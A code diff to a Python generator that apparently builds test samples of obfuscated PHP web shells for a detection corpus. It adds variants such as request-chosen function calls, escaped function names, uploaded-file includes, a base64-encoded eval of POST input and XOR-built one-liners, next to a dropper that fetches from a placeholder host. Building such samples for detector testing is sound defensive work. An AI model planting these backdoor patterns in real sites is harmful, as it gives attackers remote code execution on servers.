@@ -64,6 +64,8 @@ INPUTS: dict[str, Callable[[Sink], str]] = {
     "php_input": _direct(f"file_get_contents('{INPUT}')"),
     "globals": _direct(f"$GLOBALS['_{P[2:]}']['k']"),
     "extract": lambda sink: f"@extract({R});\n" + sink("$k"),
+    # an uploaded file included as code (include sinks only)
+    "upload": _direct(t("$_FI", "LES") + "['u']['tmp_name']"),
 }
 DIRECT_INPUTS = ("get", "post", "request", "cookie", "header", "getenv", "php_input", "brace")
 
@@ -113,6 +115,13 @@ NAME_TRANSFORMS: dict[str, Callable[[str, int], str]] = {
     "strindex": lambda n, i: _index(n),
     # the name is not in the file at all: the request chooses the function
     "reqname": lambda n, i: f"{G}['f']",
+    # one character written as an escape: "ass\x65rt", "sy\163tem"
+    "partialhex": lambda n, i: (
+        '"' + n[: 1 + i % (len(n) - 1)] + f"\\x{ord(n[1 + i % (len(n) - 1)]):02x}" + n[2 + i % (len(n) - 1) :] + '"'
+    ),
+    "partialoct": lambda n, i: (
+        '"' + n[: 1 + i % (len(n) - 1)] + f"\\{ord(n[1 + i % (len(n) - 1)]):o}" + n[2 + i % (len(n) - 1) :] + '"'
+    ),
 }
 # a call through reflection instead of a variable
 CALL_FORMS = {
@@ -205,7 +214,9 @@ def _include(word: str) -> Callable[[str, str], str]:
         sep = " /* x */ " if syntax == "comments" else " "
         if INPUT in e:  # the body itself is the code
             return f"{kw}{sep}'{INPUT}';"
-        return f"{kw}{sep}'data://text/plain;base64,' . {e};" if word.startswith("req") else f"@{kw}{sep}{e};"
+        if word.startswith("req") and "tmp_name" not in e:
+            return f"{kw}{sep}'data://text/plain;base64,' . {e};"
+        return f"@{kw}{sep}{e};"
 
     return build
 
@@ -289,6 +300,8 @@ def transforms_for(sink: str) -> list[str]:
     names = [] if sink in CONSTRUCTS else list(NAME_TRANSFORMS)
     if SINKS[sink][1].__qualname__.startswith("_call."):
         names.append("reflection")
+    if sink not in CONSTRUCTS:
+        names.append("reqvar")
     syntax = [s for s in SYNTAX_TRANSFORMS if not (s == "case" and sink == "xslt")]
     return syntax + names + [f"layer-{name}" for name in LAYERS]
 
@@ -341,6 +354,9 @@ def build(inp: str, sink: str, transform: str, wrapper: str, index: int) -> str:
     if transform in NAME_TRANSFORMS:
         name = callee if sink in CALLBACKS else _sink_name(sink)
         sink_fn = maker(NAME_TRANSFORMS[transform](name, index), "none")
+    elif transform == "reqvar":  # $e = $_REQUEST['e']; ... the callee is $e
+        chosen = maker("$e", "none")
+        sink_fn = lambda e: f"$e = {R}['e'];\n" + chosen(e)  # noqa: E731
     elif transform == "reflection":
         sink_fn = maker("reflection:" + NAME_TRANSFORMS["split2"](_sink_name(sink), index), "none")
     else:
@@ -376,7 +392,7 @@ def technique(inp: str, sink: str, transform: str, padded: bool) -> str:
         return "php.padded"
     if transform.startswith("layer-"):
         return "php.encoded"
-    if transform == "reqname":
+    if transform in ("reqname", "reqvar"):
         return "php.variable-call"
     if transform in NAME_TRANSFORMS or transform == "reflection":
         return "php.name-synthesis"
@@ -403,6 +419,10 @@ def _case(inp: str, sink: str, transform: str, wrapper: str, index: int, padded:
     return Case(technique(inp, sink, transform, padded), variant, "php", f"c{index:04d}.php", content)
 
 
+def _valid(inp: str, sink: str) -> bool:
+    return inp != "upload" or sink in ("include", "require")
+
+
 def hit_cases() -> Iterator[Case]:
     index = 0
     wrappers = cycle(WRAPPERS)
@@ -411,6 +431,8 @@ def hit_cases() -> Iterator[Case]:
     for s_i, sink in enumerate(SINKS):
         transforms = transforms_for(sink)
         for i_i, inp in enumerate(INPUTS):
+            if not _valid(inp, sink):
+                continue
             transform = transforms[(s_i + i_i) % len(transforms)]
             seen.add((inp, sink, transform))
             yield _case(inp, sink, transform, next(wrappers), index)
@@ -420,6 +442,8 @@ def hit_cases() -> Iterator[Case]:
     for s_i, sink in enumerate(SINKS):
         for k, transform in enumerate(transforms_for(sink)):
             inp = inputs[(s_i * 3 + k) % len(inputs)]
+            if not _valid(inp, sink):
+                inp = "post"
             if (inp, sink, transform) in seen:
                 continue
             yield _case(inp, sink, transform, next(wrappers), index)
@@ -451,6 +475,8 @@ DROP_CONTENTS = {
     "input": f"file_get_contents('{INPUT}')",
     "remote": "file_get_contents('http://example.invalid/s.txt')",
     "cookie": f"{C}['d']",
+    # PHP code kept as a base64 literal (built here, never stored): '<?php ...' encodes to 'PD9waHA...'
+    "b64lit": f"{B64D}('" + base64.b64encode(f"<?php {EVAL}({P}['x']);".encode()).decode() + "')",
 }
 UPLOAD_FROM, UPLOAD_TMP = "['d']", "['f']['tmp_name']"
 DROP_SINKS: dict[str, Callable[[str, str], str]] = {
@@ -502,6 +528,17 @@ def nonalnum_cases(start: int) -> Iterator[Case]:
         body = f"$_={_punct_xor(callee, k)}{sep}$__='_'.{_punct_xor(source[2:], k)}{sep}$___=$$__{sep}@$_($___['_']);"
         text = _wrap(next(wrappers), body)
         yield Case("php.nonalnum", f"callee={callee} source={source}", "php", f"n{index:04d}.php", text.encode())
+        index += 1
+    # ${$__}[!$_](${$__}[$_]): the superglobal's name XORed, function and argument both from the request
+    for k, source in enumerate((G, P, C)):
+        body = f"@$_++;\n$__={_punct_xor(source[1:], k)};\n${{$__}}[!$_](${{$__}}[$_]);"
+        text = _wrap(next(wrappers), body)
+        yield Case("php.nonalnum", f"brace-call source={source}", "php", f"n{index:04d}.php", text.encode())
+        index += 1
+    # ($_=@$_GET[2]).@$_($_POST[1]): the function name assigned inside an expression
+    for k, (first, second) in enumerate(((G, P), (P, P), (C, R))):
+        text = _wrap(next(wrappers), f"(${'_'}=@{first}[2]).@$_({second}[1]);")
+        yield Case("php.variable-call", f"inline-assign {first} {second}", "php", f"n{index:04d}.php", text.encode())
         index += 1
 
 
